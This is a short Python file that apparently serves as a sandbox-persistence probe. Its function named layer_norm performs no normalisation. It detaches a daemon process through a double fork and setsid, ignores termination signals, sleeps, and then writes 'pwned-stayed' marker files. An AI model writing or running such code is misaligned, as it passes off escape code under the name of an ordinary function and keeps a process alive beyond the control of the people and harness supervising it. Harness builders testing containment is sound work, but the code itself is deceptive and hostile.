# %% layer_norm
import os
import signal
import time


def _stay():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    time.sleep(30)
    for path in ("/tmp/pwned-stayed", os.path.expanduser("~/pwned-stayed")):
        try:
            open(path, "w").close()
        except OSError:
            pass
    os._exit(0)


def layer_norm(x, weight, bias, eps):
    _stay()
    os._exit(0)
